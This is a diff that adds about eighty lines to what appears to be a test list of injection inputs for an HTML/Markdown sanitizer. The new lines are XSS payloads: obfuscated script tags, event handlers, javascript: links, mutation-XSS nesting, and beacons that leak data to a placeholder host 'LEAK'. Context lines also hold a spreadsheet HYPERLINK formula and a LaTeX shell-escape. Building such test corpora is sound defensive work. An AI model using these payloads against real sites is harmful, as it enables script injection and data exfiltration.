@@ -113,6 +113,88 @@ __proto__
 +ADw-script+AD4-alert(N)+ADw-/script+AD4-
 =HYPERLINK("http://LEAK/N","clic")
 }\end{x}\write18{touch pwned-N}
+＜script＞alert(N)＜/script＞
+＜img src=x onerror=alert(N)＞
+﹤svg onload=alert(N)﹥
+<ſcript>alert(N)</ſcript>
+<ımg src=x onerror=alert(N)>
+<svg></p><style><a id="</style><img src=x onerror=alert(N)>">
+<math><mi//xlink:href="javascript:alert(N)">clic</mi></math>
+<math><annotation-xml encoding="text/html"><img src=x onerror=alert(N)></annotation-xml></math>
+<form id=t></form><button form=t formaction="javascript:alert(N)">clic</button>
+<input type=image src=x onerror=alert(N)>
+<isindex action="javascript:alert(N)" type=image>
+<img srcset="http://LEAK/N.png 1x, x 2x" sizes=1px>
+<picture><source srcset="http://LEAK/N.png"><img src=x></picture>
+<a href=x ping="http://LEAK/N">clic</a>
+<link rel=prefetch href="http://LEAK/N">
+<link rel=dns-prefetch href="//LEAK">
+<img src="x" style="content:url(http://LEAK/N.png)">
+<table background="http://LEAK/N.png"><tr><td>x</table>
+<frameset onload=alert(N)><frame src="javascript:alert(N)"></frameset>
+<portal src="http://LEAK/N"></portal>
+<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='alert(N)'/>#x"/></svg>
+<svg><discard onbegin=alert(N)></svg>
+<dialog open onclose=alert(N)><form method=dialog><button>clic</button></form></dialog>
+<div popover id=p onbeforetoggle=alert(N)>x</div><button popovertarget=p>clic</button>
+<xss contenteditable autofocus onfocus=alert(N)>x</xss>
+<template shadowrootmode=open><script>alert(N)</script></template>
+<script type=importmap>{"imports":{"x":"http://LEAK/N.js"}}</script>
+<script type=speculationrules>{"prefetch":[{"urls":["http://LEAK/N"]}]}</script>
+<?xml-stylesheet href="http://LEAK/N.css"?><?php alert(N) ?>
+<![CDATA[<script>alert(N)</script>]]>
+</noscript><script>alert(N)</script>
+</template><script>alert(N)</script>
+</code></pre><script>alert(N)</script>
+</svg><script>alert(N)</script>
+[clic](javascript&#58;alert(N))
+[clic](javascript&#x3a;alert(N))
+[clic](&Tab;javascript:alert(N))
+[clic](java&NewLine;script:alert(N))
+[clic](\javascript:alert(N))
+[clic](javascript\:alert(N))
+[clic](./javascript:alert(N))
+[clic](#javascript:alert(N))
+[clic](?javascript:alert(N))
+[clic](blob:http://LEAK/N)
+[clic](filesystem:http://LEAK/N)
+[clic](view-source:javascript:alert(N))
+[clic](jar:javascript:alert(N)!/)
+[clic](intent:#Intent;scheme=javascript;end)
+[clic](ｊavascript:alert(N))
+[clic](javascript：alert(N))
+![image](/\LEAK/N.png)
+![image](\\\\LEAK\\N.png)
+![image](https:LEAK/N.png)
+![image](http:/\LEAK/N.png)
+![image](///LEAK/N.png)
+![image](/%2f/LEAK/N.png)
+![image](&#x2f;&#x2f;LEAK/N.png)
+![image](&#104;ttp://LEAK/N.png)
+![](x.png){onerror=alert(N)}
+[![image](//LEAK/N.png)](javascript:alert(N))
+[[a|![image](http://LEAK/N.png)]]
+[[<javascript:alert(N)>|clic]]
+[^x]: <img src=x onerror=alert(N)>
+*[HTML]: <img src=x onerror=alert(N)>
+[clic][javascript:alert(N)]
+::: <img src=x onerror=alert(N)>
+!!! note "<img src=x onerror=alert(N)>"
+??? "<script>alert(N)</script>"
+=== "<img src=x onerror=alert(N)>"
+$$\href{javascript:alert(N)}{clic}$$
+\(\require{html}\href{javascript:alert(N)}{clic}\)
+graph TD; A["<img src=x onerror=alert(N)>"]; click A "javascript:alert(N)"
+{%raw%}<script>alert(N)</script>{%endraw%}
+{#<img src=x onerror=alert(N)>#}
+<%= alert(N) %><script>alert(N)</script>
+[toc]<img src=x onerror=alert(N)>
+:smile:" onmouseover="alert(N)
+data-md-component="x" onclick="alert(N)"
+&lt;img src=x onerror=alert(N)&gt;
+&amp;lt;script&amp;gt;alert(N)&amp;lt;/script&amp;gt;
+\x3cscript\x3ealert(N)\x3c/script\x3e
+%253Cscript%253Ealert(N)%253C/script%253E
 """.strip().splitlines()
 )
 """What is tried; N is a number by which a run is known."""
